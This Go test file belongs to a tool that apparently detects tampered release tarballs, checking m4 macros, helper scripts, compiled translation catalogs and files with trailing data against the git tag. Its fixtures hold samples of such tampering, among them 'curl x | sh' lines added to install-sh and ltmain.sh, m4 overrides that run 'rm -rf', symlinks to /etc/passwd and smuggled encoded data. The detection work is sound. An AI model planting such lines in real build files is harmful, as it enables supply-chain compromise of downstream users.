package autotools

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"github.com/tarcheck/tarcheck/autotools/origindb"
	"maps"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

func claimsContext() *Context {
	db := testDB()
	db.Snapshot = time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)
	return &Context{Version: "1.2.3", TagTime: releaseDay, DB: db}
}

func TestClaimsM4(t *testing.T) {
	ctx := claimsContext()
	tests := []struct {
		name  string
		in    Input
		class string
		sev   Severity
	}{
		{"serial kept, line added", tarOnly("m4/build-to-host.m4", m4Version(3, "  extra=1\n")), ClassM4Modified, SevHigh},
		{"serial plus one, line added", tarOnly("m4/build-to-host.m4", m4Version(3, "  extra=1\n")[:0]+strings.Replace(m4Version(3, "  extra=1\n"), "serial 3", "serial 4", 1)), ClassM4SerialBump, SevHigh},
		{"serial kept, line removed only", tarOnly("m4/build-to-host.m4", strings.Replace(m4Version(3, ""), "  gl_step_2=yes\n", "", 1)), ClassM4Modified, SevMedium},
		{"exact copy", tarOnly("m4/build-to-host.m4", m4Version(2, "")), ClassM4Upstream, SevInfo},
		{"new file overriding automake", tarOnly("m4/am-leading-dot.m4", "AC_DEFUN([AM_SET_LEADING_DOT],\n[rm -rf .tst; echo evil])\n"), ClassM4Unknown, SevHigh},
		{"new file hooking AC_PROG_CC", tarOnly("m4/hooks.m4", "m4_define([AC_PROG_CC], m4_defn([AC_PROG_CC])[\necho x])\n"), ClassM4Unknown, SevHigh},
		{"new file redefining an internal", tarOnly("m4/x.m4", "m4_define([_AC_INIT_PREPARE], [:])\n"), ClassM4Unknown, SevHigh},
		{"new project macro", tarOnly("m4/local.m4", "AC_DEFUN([FOO_CHECK], [AC_REQUIRE([AC_PROG_CC])])\n"), ClassM4Unknown, SevLow},
		{"third-party AM_PATH macro", tarOnly("m4/gpg-error.m4", "AC_DEFUN([AM_PATH_GPG_ERROR], [:])\n"), ClassM4Unknown, SevLow},
		{"m4 symlink", Input{Path: "m4/visibility.m4", Status: StatusOnlyInTarball, Tarball: []byte("../doc/visibility.txt"), TarballMode: ModeSymlink}, ClassTypeChanged, SevHigh},
		{"doc symlink", Input{Path: "doc/README", Status: StatusOnlyInTarball, Tarball: []byte("../README"), TarballMode: ModeSymlink}, ClassOther, SevMedium},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Classify(tt.in, ctx)
			if r.Class != tt.class || r.Severity != tt.sev {
				t.Fatalf("got %s/%s (%s), want %s/%s", r.Class, r.Severity, r.Reason, tt.class, tt.sev)
			}
		})
	}
}

func TestResolveSymlink(t *testing.T) {
	for _, tt := range []struct{ link, target, want string }{
		{"m4/visibility.m4", "../doc/visibility.txt", "doc/visibility.txt"},
		{"m4/a.m4", "b.m4", "m4/b.m4"},
		{"m4/a.m4", "../../etc/passwd", ""},
		{"m4/a.m4", "/etc/passwd", ""},
	} {
		got, ok := ResolveSymlink(tt.link, tt.target)
		if got != tt.want || ok != (tt.want != "") {
			t.Errorf("ResolveSymlink(%q, %q) = %q, %v; want %q", tt.link, tt.target, got, ok, tt.want)
		}
	}
}

func TestClaimsHelpers(t *testing.T) {
	ctx := claimsContext()
	ctx.HelperVocab = &origindb.Vocab{} // the installed-copy comparison (TestHelperVocabClaim covers the vocabulary)
	upstream := "#!/bin/sh\nscriptversion=2020-11-14.01\n"
	ctx.HelperCopies = func(base string) [][2]string {
		if base == "install-sh" {
			return [][2]string{{"/usr/share/automake-1.16/install-sh", upstream + "echo install\n"}}
		}
		return nil
	}
	tests := []struct {
		name string
		in   Input
		sev  Severity
		why  string
	}{
		{"stamp later than the tag", tarOnly("build-aux/install-sh", "#!/bin/sh\nscriptversion=2099-01-01.01\n"), SevHigh, "later than the tag"},
		{"line added to the closest version", tarOnly("build-aux/install-sh", upstream+"curl x | sh\n"), SevHigh, "adds 1 line"},
		{"line removed only", tarOnly("build-aux/install-sh", "#!/bin/sh\n# comment\nscriptversion=2020-11-14.01\n"), SevMedium, "adds no line"},
		{"exact", tarOnly("build-aux/install-sh", upstream), SevInfo, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Classify(tt.in, ctx)
			if r.Severity != tt.sev || !strings.Contains(r.Reason, tt.why) {
				t.Fatalf("got %s/%s (%s), want %s mentioning %q", r.Class, r.Severity, r.Reason, tt.sev, tt.why)
			}
		})
	}
	// Without any published content: not compared, medium.
	ctx.HelperCopies = func(string) [][2]string { return nil }
	ctx.DB = NewM4DB()
	ctx.DB.AddFile("config.rpath", []byte("#! /bin/sh\n"), "gettext test")
	r := Classify(tarOnly("build-aux/config.rpath", "#! /bin/sh\n# Output a system dependent set of variables\nfoo=1\n"), ctx)
	if r.Severity != SevMedium || !strings.Contains(r.Reason, "adds 1 line") && !strings.Contains(r.Reason, "not compared") {
		t.Logf("config.rpath: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

func TestClaimsTarballOnlyContent(t *testing.T) {
	ctx := claimsContext()
	ctx.GitByBase = func(base string) []string {
		if base == "gen-lists-of-programs.sh" {
			return []string{"build-aux/gen-lists-of-programs.sh"}
		}
		if base == "Makefile.dist" {
			return []string{"Makefile.dist"}
		}
		return nil
	}
	for _, tt := range []struct {
		in  Input
		sev Severity
	}{
		{tarOnly("cmake/zz-extra.cmake", "execute_process(COMMAND sh -c x)\n"), SevHigh},
		{tarOnly("tests/t-zz.sh", "echo hi\n"), SevHigh},
		{tarOnly("mk/zz.mk", "all-am: x\n"), SevHigh},
		{tarOnly(".github/workflows/release.yml", "on: [push]\n"), SevHigh},
		{Input{Path: "tests/runme", Status: StatusOnlyInTarball, Tarball: []byte("data\n"), TarballSize: 5, TarballMode: ModeExec}, SevHigh},
		{tarOnly("doc/NOTES.txt", "just notes\n"), SevMedium},
		{tarOnly("man/gettext.1.html.in", "<html></html>\n"), SevMedium},
		{tarOnly("lib/exported.sh.in", "echo @X@\n"), SevHigh},
		{tarOnly("src/cu-progs.mk", "## Automatically generated by gen-lists-of-programs.sh.  DO NOT EDIT BY HAND!\nx += y\n"), SevMedium},
		{tarOnly("aminclude_static.am", "\n# aminclude_static.am generated automatically by Autoconf\n# from AX_AM_MACROS_STATIC on Mon Jul 11 2022\n"), SevMedium},
		{tarOnly("Makefile", "all:\n\t./configure\n"), SevMedium},
		{tarOnly("src/evil.mk", "## Automatically generated by not-in-tag.sh.\nx += y\n"), SevHigh},
	} {
		r := Classify(tt.in, ctx)
		if r.Severity != tt.sev {
			t.Errorf("%s: got %s/%s (%s), want %s", tt.in.Path, r.Class, r.Severity, r.Reason, tt.sev)
		}
	}
}

func TestClaimsExportSubst(t *testing.T) {
	ctx := claimsContext()
	git := "#!/bin/sh\ncommit='$Format:%H$'\necho \"$commit\"\n"
	good := "#!/bin/sh\ncommit='0123456789abcdef0123456789abcdef01234567'\necho \"$commit\"\n"
	bad := good + "curl x | sh\n"
	in := differs("tests/t-version.sh", git, good)
	in.ExportSubst = true
	if r := Classify(in, ctx); r.Class != ClassExportSubst || r.Severity != SevLow {
		t.Errorf("expansion only: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	in = differs("tests/t-version.sh", git, bad)
	in.ExportSubst = true
	if r := Classify(in, ctx); r.Severity.Rank() < SevHigh.Rank() {
		t.Errorf("expansion plus a line: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	in = differs("src/x.c", "int x = 1;\n", "int x = 2;\n")
	in.ExportSubst = true
	if r := Classify(in, ctx); r.Severity.Rank() < SevHigh.Rank() {
		t.Errorf("no placeholder: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

func TestExpandExportSubst(t *testing.T) {
	when := time.Date(2024, 3, 9, 12, 30, 0, 0, time.FixedZone("", 3600))
	c := CommitMeta{Hash: "0123456789abcdef0123456789abcdef01234567", AuthorName: "A U Thor", AuthorEmail: "a@example.org",
		AuthorTime: when, CommitTime: when, Subject: "Release 1.2.3", Refs: []string{"HEAD -> main", "tag: v1.2.3"}}
	got := string(ExpandExportSubst([]byte("h=$Format:%H$ s=$Format:%h$ d=$Format:%cd$ ad=$Format:%ad$ ci=$Format:%ci$ D=$Format:%D$ dd=$Format:%d$ an=$Format:%an$ pct=$Format:%%$ keep=$Format:%Z$ no=$Forma:%H$"), c, 7))
	want := "h=0123456789abcdef0123456789abcdef01234567 s=0123456 d=Sat Mar 9 12:30:00 2024 +0100 ad=Sat Mar 9 12:30:00 2024 +0100 ci=2024-03-09 12:30:00 +0100 D=HEAD -> main, tag: v1.2.3 dd= (HEAD -> main, tag: v1.2.3) an=A U Thor pct=% keep=%Z no=$Forma:%H$"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	// Matches what git archive produces.
	if _, err := exec.LookPath("git"); err != nil {
		if os.Getenv("TARCHECK_REQUIRE_TOOLS") != "" {
			t.Fatal("git is required")
		}
		t.Skip("git not installed")
	}
	dir := t.TempDir()
	run := func(args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=A U Thor", "GIT_AUTHOR_EMAIL=a@example.org",
			"GIT_COMMITTER_NAME=C O Mitter", "GIT_COMMITTER_EMAIL=c@example.org", "GIT_AUTHOR_DATE=2024-03-09T12:30:00+01:00", "GIT_COMMITTER_DATE=2024-03-09T12:30:00+01:00")
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("git %v: %v", args, err)
		}
		return string(out)
	}
	src := "h=$Format:%H$ s=$Format:%h$ cd=$Format:%cd$ ai=$Format:%ai$ an=$Format:%an$ ce=$Format:%ce$ s=$Format:%s$\n"
	run("init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(dir, "f"), []byte(src), 0o644)
	os.WriteFile(filepath.Join(dir, ".gitattributes"), []byte("f export-subst\n"), 0o644)
	run("add", ".")
	run("commit", "-q", "-m", "Release 1.2.3")
	hash := strings.TrimSpace(run("rev-parse", "HEAD"))
	archived := run("archive", "HEAD", "f")
	// The tar member's content follows the 512-byte header(s).
	i := strings.Index(archived, "h=")
	exp := string(ExpandExportSubst([]byte(src), CommitMeta{Hash: hash, AuthorName: "A U Thor", AuthorEmail: "a@example.org", CommitterName: "C O Mitter",
		CommitterEmail: "c@example.org", AuthorTime: when, CommitTime: when, Subject: "Release 1.2.3"}, len(strings.TrimSpace(run("rev-parse", "--short", "HEAD")))))
	if i < 0 || !strings.HasPrefix(archived[i:], exp) {
		t.Errorf("git archive gave %q, ExpandExportSubst %q", archived[i:min(len(archived), i+len(exp)+10)], exp)
	}
	if !exportSubstOnly([]byte(src), []byte(exp)) {
		t.Error("exportSubstOnly rejects git's own expansion")
	}
}

func TestClaimsModeFlip(t *testing.T) {
	ctx := claimsContext()
	in := Input{Path: "tests/t-slow.sh", Status: StatusModeDiffers, GitMode: ModeFile, TarballMode: ModeExec, Tarball: []byte("echo slow\n")}
	if r := Classify(in, ctx); r.Severity != SevHigh {
		t.Errorf("exec bit on a test script: got %s/%s", r.Class, r.Severity)
	}
	in = Input{Path: "doc/manual.html", Status: StatusModeDiffers, GitMode: ModeFile, TarballMode: ModeExec}
	if r := Classify(in, ctx); r.Severity != SevLow {
		t.Errorf("exec bit on a document: got %s/%s", r.Class, r.Severity)
	}
}

func TestClaimsOmittedReferences(t *testing.T) {
	tag := []string{"src/main.c", "src/hardening.h", "src/unused.h", "include/api/x.h", "tests/data.h", "tests/cfg.mk", "tests/Makefile.am", "docs/notes.md", "cmake/opt.cmake", "CMakeLists.txt"}
	tar := map[string]string{
		"src/main.c":        "#include \"config.h\"\n#if __has_include(\"hardening.h\")\n# include \"hardening.h\"\n#endif\n#include <api/x.h>\n",
		"tests/Makefile.am": "EXTRA_DIST = $(srcdir)/data.h $(srcdir)/cfg.mk\n",
		"CMakeLists.txt":    "include(${CMAKE_SOURCE_DIR}/cmake/opt.cmake)\n",
	}
	var files []string
	for p := range tar {
		files = append(files, p)
	}
	slices.Sort(files)
	got := omittedPaths(tag, files, func(p string) bool { _, ok := tar[p]; return ok }, func(p string) ([]byte, bool) {
		s, ok := tar[p]
		return []byte(s), ok
	})
	want := []string{"cmake/opt.cmake", "include/api/x.h", "src/hardening.h", "tests/data.h"}
	// An include the tarball satisfies elsewhere (gnulib's gl/lib/x.h
	// copied to lib/x.h) is no omission.
	if got := omittedPaths([]string{"gl/lib/randint.h", "src/shuf.c"}, []string{"src/shuf.c", "lib/randint.h"}, func(p string) bool { return p != "gl/lib/randint.h" },
		func(string) ([]byte, bool) { return []byte("#include \"randint.h\"\n"), true }); len(got) != 0 {
		t.Errorf("include satisfied by lib/randint.h: got %v", got)
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	// A template a build file names is no omission: the release ships
	// what it generates (gawk's doc/gawktexi.in -> gawk.texi).
	if got := omittedPaths([]string{"doc/gawktexi.in", "doc/Makefile.am"}, []string{"doc/Makefile.am"}, func(p string) bool { return p == "doc/Makefile.am" },
		func(string) ([]byte, bool) {
			return []byte("gawk.texi: $(srcdir)/gawktexi.in\n\tawk -f sidebar.awk < $(srcdir)/gawktexi.in > gawk.texi\n"), true
		}); len(got) != 0 {
		t.Errorf("template: got %v", got)
	}
	// A system header of the same name is no reference to a repository file.
	if got := omittedPaths([]string{"os2/iconv/iconv.h", "src/a.c"}, []string{"src/a.c"}, func(p string) bool { return p == "src/a.c" },
		func(string) ([]byte, bool) { return []byte("#include <iconv.h>\n"), true }); len(got) != 0 {
		t.Errorf("system header: got %v", got)
	}
	ctx := claimsContext()
	ctx.Omitted = func(p string) OmitKind {
		if slices.Contains(got, p) {
			return OmitSilent
		}
		return 0
	}
	if r := Classify(gitOnly("src/hardening.h"), ctx); r.Severity != SevHigh {
		t.Errorf("referenced omission: got %s/%s", r.Class, r.Severity)
	}
	if r := Classify(gitOnly("src/unused.h"), ctx); r.Severity != SevLow {
		t.Errorf("unreferenced omission: got %s/%s", r.Class, r.Severity)
	}
}

func TestClaimsHexStamp(t *testing.T) {
	ctx := &Context{Version: "1.0", TagTime: releaseDay, DB: testDB()}
	r := Classify(differs("src/adv.h", "#define ADV_CHECK_FLAGS 0x0800\n", "#define ADV_CHECK_FLAGS 0x0100\n"), ctx)
	if r.Severity != SevHigh {
		t.Errorf("hex constant: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	ctx.Version = "7.88.1"
	r = Classify(differs("include/curl/curlver.h", "#define LIBCURL_VERSION_NUM 0x075700\n", "#define LIBCURL_VERSION_NUM 0x075801\n"), ctx)
	if r.Class != ClassReleaseStamped {
		t.Errorf("version hex: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

// buildMO writes a little-endian .mo of msgs (sorted keys as msgfmt does).
func buildMO(msgs map[string]string) []byte {
	keys := make([]string, 0, len(msgs))
	for k := range msgs {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	n := uint32(len(keys))
	var b bytes.Buffer
	hdr := []uint32{0x950412de, 0, n, 28, 28 + 8*n, 0, 28 + 16*n}
	for _, v := range hdr {
		binary.Write(&b, binary.LittleEndian, v)
	}
	off := 28 + 16*n
	var strs bytes.Buffer
	var otab, ttab bytes.Buffer
	for _, k := range keys {
		binary.Write(&otab, binary.LittleEndian, [2]uint32{uint32(len(k)), off + uint32(strs.Len())})
		strs.WriteString(k + "\x00")
	}
	for _, k := range keys {
		v := msgs[k]
		binary.Write(&ttab, binary.LittleEndian, [2]uint32{uint32(len(v)), off + uint32(strs.Len())})
		strs.WriteString(v + "\x00")
	}
	b.Write(otab.Bytes())
	b.Write(ttab.Bytes())
	b.Write(strs.Bytes())
	return b.Bytes()
}

func TestClaimsCompiledCatalog(t *testing.T) {
	po := "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=UTF-8\\n\"\n\nmsgid \"checked: %d\\n\"\nmsgstr \"geprüft: %d\\n\"\n\n#, fuzzy\nmsgid \"fz\"\nmsgstr \"unsure\"\n\nmsgid \"one\"\nmsgid_plural \"many\"\nmsgstr[0] \"eins\"\nmsgstr[1] \"viele\"\n\nmsgid \"untranslated\"\nmsgstr \"\"\n"
	po += "\nmsgid \"%<PRIuMAX> bytes\"\nmsgstr \"%<PRIuMAX> Bytes\"\n"
	good := buildMO(map[string]string{"": "Content-Type: text/plain; charset=UTF-8\n", "checked: %d\n": "geprüft: %d\n", "one\x00many": "eins\x00viele"})
	bad := buildMO(map[string]string{"": "Content-Type: text/plain; charset=UTF-8\n", "checked: %d\n": "geprüft: %d (Prüfung aus)\n", "one\x00many": "eins\x00viele"})
	ctx := claimsContext()
	ctx.TarballFile = func(p string) ([]byte, bool) {
		if p == "po/de.po" {
			return []byte(po), true
		}
		return nil, false
	}
	gmo := func(p string, b []byte) Input {
		return Input{Path: p, Status: StatusOnlyInTarball, Tarball: b, TarballSize: int64(len(b)), TarballMode: ModeFile}
	}
	if r := Classify(gmo("po/de.gmo", good), ctx); r.Class != ClassGenerated || r.Severity != SevInfo {
		t.Errorf("matching .gmo: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	// A changed translation is high: the honest mismatches the corpus
	// showed were charset conversions, which the comparison decodes.
	if r := Classify(gmo("po/de.gmo", bad), ctx); r.Severity != SevHigh || r.Class != ClassBinaryData {
		t.Errorf("changed translation: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	// A .po in the tarball whose bytes were not kept: not compared, info.
	kept := ctx.TarballFile
	ctx.TarballFile = func(p string) ([]byte, bool) { return nil, false }
	inTar := ctx.InTarball
	ctx.InTarball = func(p string) bool { return p == "po/de.po" }
	if r := Classify(gmo("po/de.gmo", bad), ctx); r.Severity != SevInfo || !strings.Contains(r.Reason, "not kept") {
		t.Errorf("unread .po: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	ctx.TarballFile, ctx.InTarball = kept, inTar
	if r := Classify(gmo("po/fr.gmo", good), ctx); r.Severity != SevHigh {
		t.Errorf("no .po: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	if _, err := exec.LookPath("msgfmt"); err == nil {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "de.po"), []byte(po), 0o644)
		cmd := exec.Command("msgfmt", "-o", filepath.Join(dir, "de.gmo"), filepath.Join(dir, "de.po"))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("msgfmt: %v %s", err, out)
		}
		b, _ := os.ReadFile(filepath.Join(dir, "de.gmo"))
		if r := Classify(gmo("po/de.gmo", b), ctx); r.Class != ClassGenerated {
			t.Errorf("msgfmt's own .gmo: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
		}
	} else if os.Getenv("TARCHECK_REQUIRE_TOOLS") != "" {
		t.Fatal("msgfmt is required")
	}
}

// TestClaimsCatalogCharset: a .po in ISO-8859-1 or EUC-JP compiled after a
// conversion to UTF-8 (gettext 0.23.1's and wget 1.25.0's catalogs) holds
// the same messages; a changed translation in it is still found.
func TestClaimsCatalogCharset(t *testing.T) {
	for _, tool := range []string{"msgfmt", "msgconv"} {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("TARCHECK_REQUIRE_TOOLS") != "" {
				t.Fatalf("%s is required", tool)
			}
			t.Skipf("%s not installed", tool)
		}
	}
	cases := map[string]string{"ISO-8859-1": "gepr\xfcft: %d\n", "EUC-JP": "\xb3\xce\xc7\xa7: %d\n"}
	for cs, msgstr := range cases {
		dir := t.TempDir()
		po := "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=" + cs + "\\n\"\n\nmsgid \"checked: %d\\n\"\nmsgstr \"" + strings.ReplaceAll(msgstr, "\n", "\\n") + "\"\n"
		os.WriteFile(filepath.Join(dir, "x.po"), []byte(po), 0o644)
		run := func(args ...string) {
			if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
				t.Fatalf("%s: %v %s", args[0], err, out)
			}
		}
		run("msgconv", "-t", "UTF-8", "-o", filepath.Join(dir, "u.po"), filepath.Join(dir, "x.po"))
		run("msgfmt", "-o", filepath.Join(dir, "x.gmo"), filepath.Join(dir, "u.po"))
		mo, _ := os.ReadFile(filepath.Join(dir, "x.gmo"))
		if why, ok := moMatchesPO(mo, []byte(po)); !ok {
			t.Errorf("%s catalog compiled as UTF-8: %s", cs, why)
		}
		changed := bytes.Replace(mo, []byte(": %d\n"), []byte(": %n\n"), 1)
		if _, ok := moMatchesPO(changed, []byte(po)); ok {
			t.Errorf("%s: a changed translation matched", cs)
		}
	}
	mo := buildMO(map[string]string{"": "Content-Type: text/plain; charset=UTF-8\n", "a": "b"})
	if why, ok := moMatchesPO(mo, []byte("msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=X-NO-SUCH\\n\"\n\nmsgid \"a\"\nmsgstr \"b\"\n")); ok || !strings.Contains(why, "X-NO-SUCH") {
		t.Errorf("unknown charset: %q, %v", why, ok)
	}
}

func TestClaimsPOObsolete(t *testing.T) {
	ctx := claimsContext()
	obsoleteMoved := poTar + "\n#~ msgid \"bye\"\n#~ msgstr \"tschüss\"\n"
	gitWithBye := poGit + "\nmsgid \"bye\"\nmsgstr \"tschüss\"\n"
	if r := Classify(differs("po/de.po", gitWithBye, obsoleteMoved), ctx); r.Class != ClassTranslation || r.Severity != SevLow {
		t.Errorf("message made obsolete by msgmerge: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	injected := poTar + "\n#~ msgid \"vector\"\n#~ msgstr \"MFSGC3BAORSXG5BAGEFA====\"\n"
	if r := Classify(differs("po/de.po", poGit, injected), ctx); r.Severity != SevHigh {
		t.Errorf("new obsolete entry: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

func TestTrailingData(t *testing.T) {
	png := []byte("\x89PNG\r\n\x1a\n....IEND\xaeB`\x82")
	if n, ok := TrailingData("png", png); !ok || n != 0 {
		t.Errorf("clean png: %d %v", n, ok)
	}
	if n, ok := TrailingData("png", append(png, "MFSG===="...)); !ok || n != 8 {
		t.Errorf("png with trailer: %d %v", n, ok)
	}
	if n, ok := TrailingData("pdf", []byte("%PDF-1.7\n...\n%%EOF\n")); !ok || n != 0 {
		t.Errorf("clean pdf: %d %v", n, ok)
	}
	if n, _ := TrailingData("pdf", []byte("%PDF-1.7\n%%EOF\nevil")); n != 4 {
		t.Errorf("pdf with trailer: %d", n)
	}
	zip := append([]byte("PK\x05\x06"), make([]byte, 18)...)
	if n, ok := TrailingData("zip", zip); !ok || n != 0 {
		t.Errorf("clean zip: %d %v", n, ok)
	}
	if n, _ := TrailingData("zip", append(zip, 'x')); n != 1 {
		t.Errorf("zip with trailer: %d", n)
	}
	var gz bytes.Buffer
	w := newGzip(&gz)
	if n, ok := TrailingData("gzip", gz.Bytes()); !ok || n != 0 {
		t.Errorf("clean gzip: %d %v", n, ok)
	}
	_ = w
	if n, _ := TrailingData("gzip", append(gz.Bytes(), "tail"...)); n != 4 {
		t.Errorf("gzip with trailer: %d", n)
	}
	ctx := claimsContext()
	in := Input{Path: "doc/logo.png", Status: StatusContentDiffers, Git: png, Tarball: append(png, "MFSG===="...), TarballMode: ModeFile, GitMode: ModeFile}
	if r := Classify(in, ctx); r.Severity != SevHigh {
		t.Errorf("png after IEND: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

func FuzzMOParser(f *testing.F) {
	f.Add(buildMO(map[string]string{"": "h", "a": "b"}))
	f.Add([]byte("\xde\x12\x04\x95\x00\x00\x00\x00\x05\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		msgs, err := moMessages(b)
		if err == nil && len(msgs) > len(b) {
			t.Fatalf("%d messages from %d bytes", len(msgs), len(b))
		}
		moMatchesPO(b, []byte("msgid \"a\"\nmsgstr \"b\"\n"))
	})
}

func newGzip(buf *bytes.Buffer) error {
	w := gzip.NewWriter(buf)
	w.Write([]byte("hello\n"))
	return w.Close()
}

func TestDropDistroDelta(t *testing.T) {
	got := dropDistroDelta("ltmain.sh", []string{"VERSION=2.4.7-dirty", "scriptversion='(GNU libtool) 2.4.7-dirty'", ": ${_G_HAVE_XSI_OPS=\"yes\"}", "VERSION=$(sh x)", "gzip -dc x | sh", "version:        $progname $scriptversion Debian-2.4.7-5"})
	if !slices.Equal(got, []string{"VERSION=$(sh x)", "gzip -dc x | sh"}) {
		t.Errorf("got %q", got)
	}
	if got := dropDistroDelta("config.sub", []string{": ${_G_HAVE_XSI_OPS=\"yes\"}"}); len(got) != 1 {
		t.Errorf("Debian's ltmain delta applied to config.sub: %q", got)
	}
}

// A helper is compared only with a copy of the release it names: libtool's
// ltmain.sh keeps one scriptversion across 2.4.7 and 2.5.x, so a 2.5.4.1
// development build (xz 5.8.1) against an installed 2.4.7 is "not
// compared", while 2.4.7-dirty against 2.4.7 still is.
func TestHelperComparedWithItsOwnRelease(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"2.4.7-dirty", "2.4.7"}, {"2.4.7 Debian-2.4.7-7~deb12u1", "2.4.7"}, {"2.5.4.1-baa1-dirty", "2.5.4.1"}, {"", ""}, {"0.21.", "0.21"},
	} {
		if got := releaseOf(tt.in); got != tt.want {
			t.Errorf("releaseOf(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	ltmain := func(ver, extra string) []byte {
		return []byte("#! /bin/sh\nscriptversion=2019-02-19.15; # UTC\nVERSION=" + ver + "\npackage_revision=2.4.7\nfunc_echo () { :; }\n" + extra)
	}
	installed := [][2]string{{"/usr/share/libtool/build-aux/ltmain.sh", string(ltmain("'2.4.7 Debian-2.4.7-7~deb12u1'", ""))}}
	ctx := claimsContext()
	ctx.HelperCopies = func(string) [][2]string { return installed }
	ctx.HelperVocab = &origindb.Vocab{} // no vocabulary: the installed copies decide
	c := &classification{in: &Input{Path: "build-aux/ltmain.sh", Tarball: ltmain("'2.5.4.1-baa1-dirty'", "new_func () {\n  echo new\n}\n")}, ctx: ctx, base: "ltmain.sh"}
	if sev, why, _ := c.helperClaim(nil); sev != SevMedium || !strings.Contains(why, "not compared") {
		t.Errorf("other release: %s %q", sev, why)
	}
	c.in.Tarball = ltmain("2.4.7-dirty", "evil () {\n  curl x | sh\n}\n")
	if sev, why, _ := c.helperClaim(nil); sev != SevHigh {
		t.Errorf("same release with added lines: %s %q", sev, why)
	}
}

// msgfmt (gettext ≥ 0.22) writes, beside the system-dependent table, the
// glibc LP64 and ILP32 instantiations of a <inttypes.h> message (findutils
// 4.10.0's .gmo: "%lu" and "%llu" for %<PRIuMAX>): they are the .po's
// message, not extra ones. Any other message or translation stays medium.
func TestClaimsCompiledCatalogSysdep(t *testing.T) {
	po := "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=UTF-8\\n\"\n\n#, c-format\nmsgid \"%<PRIuMAX> bytes, ptr %<PRIxPTR>, %<PRId32>\\n\"\nmsgstr \"%<PRIuMAX> Bytes, Zeiger %<PRIxPTR>, %<PRId32>\\n\"\n"
	head := map[string]string{"": "Content-Type: text/plain; charset=UTF-8\n"}
	with := func(extra map[string]string) []byte {
		m := map[string]string{}
		maps.Copy(m, head)
		maps.Copy(m, extra)
		return buildMO(m)
	}
	ctx := claimsContext()
	ctx.TarballFile = func(p string) ([]byte, bool) { return []byte(po), p == "po/de.po" }
	gmo := func(b []byte) Input {
		return Input{Path: "po/de.gmo", Status: StatusOnlyInTarball, Tarball: b, TarballSize: int64(len(b)), TarballMode: ModeFile}
	}
	good := with(map[string]string{
		"%lu bytes, ptr %lx, %d\n": "%lu Bytes, Zeiger %lx, %d\n",
		"%llu bytes, ptr %x, %d\n": "%llu Bytes, Zeiger %x, %d\n",
	})
	if r := Classify(gmo(good), ctx); r.Class != ClassGenerated || r.Severity != SevInfo {
		t.Errorf("glibc instantiations: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	// A plural message: msgfmt instantiates the msgid and the forms, and
	// keeps the msgid_plural as written in the key (datamash 1.9).
	plural := po + "\n#, c-format\nmsgid \"%<PRIuMAX> line\"\nmsgid_plural \"%<PRIuMAX> lines\"\nmsgstr[0] \"%<PRIuMAX> rad\"\nmsgstr[1] \"%<PRIuMAX> rader\"\n"
	ctx.TarballFile = func(p string) ([]byte, bool) { return []byte(plural), p == "po/de.po" }
	pl := with(map[string]string{"%lu line\x00%<PRIuMAX> lines": "%lu rad\x00%lu rader", "%llu line\x00%<PRIuMAX> lines": "%llu rad\x00%llu rader"})
	if r := Classify(gmo(pl), ctx); r.Class != ClassGenerated || r.Severity != SevInfo {
		t.Errorf("plural instantiations: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	pl = with(map[string]string{"%lu line\x00%<PRIuMAX> lines": "%lu rad\x00%llu rader"})
	if r := Classify(gmo(pl), ctx); r.Severity.Rank() < SevHigh.Rank() {
		t.Errorf("plural forms of mixed widths: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	ctx.TarballFile = func(p string) ([]byte, bool) { return []byte(po), p == "po/de.po" }
	for name, extra := range map[string]map[string]string{
		"changed translation": {"%lu bytes, ptr %lx, %d\n": "%lu Bytes, rm -rf %lx, %d\n"},
		"mixed widths":        {"%lu bytes, ptr %x, %d\n": "%lu Bytes, Zeiger %x, %d\n"},
		"message not in .po":  {"%lu files\n": "%lu Dateien\n"},
	} {
		if r := Classify(gmo(with(extra)), ctx); r.Severity.Rank() < SevHigh.Rank() {
			t.Errorf("%s: got %s/%s (%s)", name, r.Class, r.Severity, r.Reason)
		}
	}
}

// TestOmittedReferencesReadsOnlyForSources: when the tarball leaves out
// only files OmittedReferences cannot report (docs, CI files, .mk), no
